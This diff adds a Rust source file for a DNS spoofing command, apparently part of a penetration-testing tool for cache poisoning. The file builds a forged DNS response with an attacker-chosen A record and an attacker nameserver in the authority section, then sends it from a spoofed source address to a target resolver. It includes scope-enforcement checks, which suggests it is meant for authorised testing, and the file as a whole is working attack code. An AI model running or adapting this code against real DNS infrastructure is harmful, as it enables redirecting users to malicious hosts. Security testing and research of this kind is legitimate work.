@@ -0,0 +1,88 @@
+use crate::commands::{enforce_scope, PayloadArgs, ScopeArgs};
+use crate::dns;
+use crate::rng;
+use crate::spoofer;
+use std::net::Ipv4Addr;
+use structopt::StructOpt;
+
+/// Spoofs a single DNS response for an A record along with an NS record in the authority section
+#[derive(Debug, StructOpt)]
+pub struct SpoofArgs {
+    /// IP address to send the spoofed response to
+    #[structopt(long)]
+    target_addr: Ipv4Addr,
+
+    /// IP address to spoof the response from
+    #[structopt(long)]
+    spoofed_addr: Ipv4Addr,
+
+    /// Hostname to spoof a response for, e.g. www.example.com
+    #[structopt(long)]
+    hostname: String,
+
+    /// IP address that will be returned as an A record for the spoofed hostname
+    #[structopt(long)]
+    spoofed_response: Ipv4Addr,
+
+    /// Nameserver to advertise as authoritative for the hostname's domain
+    #[structopt(long)]
+    attacker_ns: String,
+
+    #[structopt(flatten)]
+    payload: PayloadArgs,
+
+    /// Seed for the ID of the query the spoofed response answers
+    #[structopt(long)]
+    seed: Option<u64>,
+
+    #[structopt(flatten)]
+    scope: ScopeArgs,
+}
+
+impl SpoofArgs {
+    pub fn run(&self) -> Result<(), String> {
+        let scope = self.scope.load()?;
+
+        let mut payload = self.payload.options(Some(self.spoofed_response));
+        if self.payload.ns_ttl.is_none() {
+            payload.ns_ttl = 0; // we do not cache to avoid caching the bad ns record
+        }
+
+        let request = dns::Query::new(vec![self.hostname.clone()]);
+
+        // drop the prefix from the hostname to get the domain
+        let domain = self
+            .hostname
+            .split(".")
+            .skip(1)
+            .collect::<Vec<&str>>()
+            .join(".");
+
+        enforce_scope(&scope, &[self.spoofed_addr, self.target_addr], &domain)?;
+
+        let response = payload.build(
+            request.to_message(&mut rng::new(self.seed))?,
+            &self.hostname,
+            &domain,
+            &self.attacker_ns,
+        )?;
+        self.payload.check(&response, &domain)?;
+
+        let response_bytes = response.to_message()?.to_bytes();
+
+        let mut _spoofer = match spoofer::Spoofer::new(
+            &self.spoofed_addr,
+            &self.target_addr,
+            response_bytes.len(),
+        ) {
+            Err(e) => return Err(e.to_string()),
+            Ok(s) => s,
+        };
+        match _spoofer.send_bytes(&response_bytes) {
+            Err(e) => return Err(e.to_string()),
+            _ => (),
+        };
+        println!("Sent spoofed bytes");
+        return Ok(());
+    }
+}